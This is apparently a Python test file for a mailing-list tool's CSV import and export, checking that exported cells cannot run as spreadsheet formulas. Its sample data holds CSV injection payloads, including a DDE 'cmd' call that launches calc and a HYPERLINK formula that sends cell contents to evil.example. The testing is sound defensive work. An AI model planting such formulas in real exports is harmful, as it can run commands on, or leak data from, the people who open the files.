"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), and mailseg reads its own
CSV back to the same data: export -> import into an empty database -> export compares equal."""

import csv
import io

from mailseg.csvcells import neutralise, restore

from .factories import fresh_cli as fresh_cli_for
from .factories import write_file

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Every cell kind that could carry attacker text: names, email, merge field names and values, tags,
# campaign, url, user agent; apostrophes before a trigger must survive the round trip too.
SUBSCRIBERS = '''
email,first_name,last_name,tags,=cmd|' /C calc'!A0,plan
"=1+2@x.test","=HYPERLINK(""http://evil.example/?""&A1,""click"")",+SUM(1),@evil;ok,-2+3,''=kept
anna@example.com,Anna,'plain,,"	tabbed",ok
'''
EVENTS = '''
email,type,occurred_at,campaign,url,user_agent,ip,amount
=1+2@x.test,click,2026-05-01T12:01:00Z,@campaign,=HYPERLINK(1),-cmd,,
anna@example.com,purchase,2026-05-03T00:00:00Z,+c,,,,19.90
'''


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    bad = [cell for cell in _cells(text) if cell.startswith(TRIGGERS)]
    assert not bad, f"cells a spreadsheet would run: {bad}"


def test_neutralise_is_reversible():
    for cell in ["", "plain", "=1", "'=1", "''=1", "'plain", "-5", "\t", "a=b", "@", "'"]:
        assert restore(neutralise(cell)) == cell
        assert not neutralise(cell).startswith(TRIGGERS)


def test_every_cli_csv_export_is_safe_and_round_trips(cli, tmp_path, sqlite_template, config):
    assert cli("import", "subscribers", write_file(tmp_path, "s.csv", SUBSCRIBERS)).exit_code == 0
    result = cli("import", "events", write_file(tmp_path, "e.csv", EVENTS))
    assert result.exit_code == 0, result.output
    assert cli("classify").exit_code == 0
    exports = {}
    for kind in ("subscribers", "events", "classes"):
        out = tmp_path / f"{kind}.csv"
        assert cli("export", kind, "-o", out).exit_code == 0
        exports[kind] = out
        _assert_no_formula(out.read_text())
    rows = list(csv.DictReader(exports["subscribers"].open(newline="")))
    assert rows[0]["email"] == "'=1+2@x.test" and rows[0]["first_name"].startswith("'=HYPERLINK(")
    assert rows[0]["plan"] == "''=kept"

    fresh_cli, fresh = fresh_cli_for(tmp_path, sqlite_template, config)

    assert fresh_cli("import", "subscribers", exports["subscribers"]).exit_code == 0
    result = fresh_cli("import", "events", exports["events"])
    assert result.exit_code == 0, result.output
    from mailseg.models import Event, Subscriber
    from sqlalchemy import select

    with fresh.session() as s:
        sub = s.scalar(select(Subscriber).where(Subscriber.email == "=1+2@x.test"))
        assert sub.first_name == '=HYPERLINK("http://evil.example/?"&A1,"click")'
        assert sub.last_name == "+SUM(1)" and sub.tags == ["@evil", "ok"]
        assert sub.merge_fields == {"=cmd|' /c calc'!a0": "-2+3", "plan": "'=kept"}  # one apostrophe was the safety prefix
        assert s.scalar(select(Event.user_agent).where(Event.type == "click")) == "-cmd"
    again = tmp_path / "again.csv"
    assert fresh_cli("export", "subscribers", "-o", again).exit_code == 0
    assert again.read_text() == exports["subscribers"].read_text()
    again_events = tmp_path / "again-events.csv"
    assert fresh_cli("export", "events", "-o", again_events).exit_code == 0
    assert again_events.read_text() == exports["events"].read_text()
    fresh.dispose()


def test_json_exports_stay_raw(cli, tmp_path):
    assert cli("import", "subscribers", write_file(tmp_path, "s.csv", SUBSCRIBERS)).exit_code == 0
    out = tmp_path / "s.jsonl"
    assert cli("export", "subscribers", "--format", "jsonl", "-o", out).exit_code == 0
    assert '"email": "=1+2@x.test"' in out.read_text()


def test_panel_csv_export_is_safe(client, session, app):
    from mailseg.accounts import create_user
    from mailseg.models import Subscriber

    from .factories import make_audience

    audience = make_audience(session)
    session.add(Subscriber(audience_id=audience.id, email="=1+2@x.test", status="subscribed",
                           first_name="=HYPERLINK(1)", last_name="@x"))
    create_user(session, "viewer@example.com", "viewer-password", role="viewer")
    session.commit()
    app.config["WTF_CSRF_ENABLED"] = False
    assert client.post("/login", data={"email": "viewer@example.com", "password": "viewer-password"}).status_code == 302
    text = client.get("/audience/export.csv").get_data(as_text=True)
    assert "'=1+2@x.test" in text
    _assert_no_formula(text)
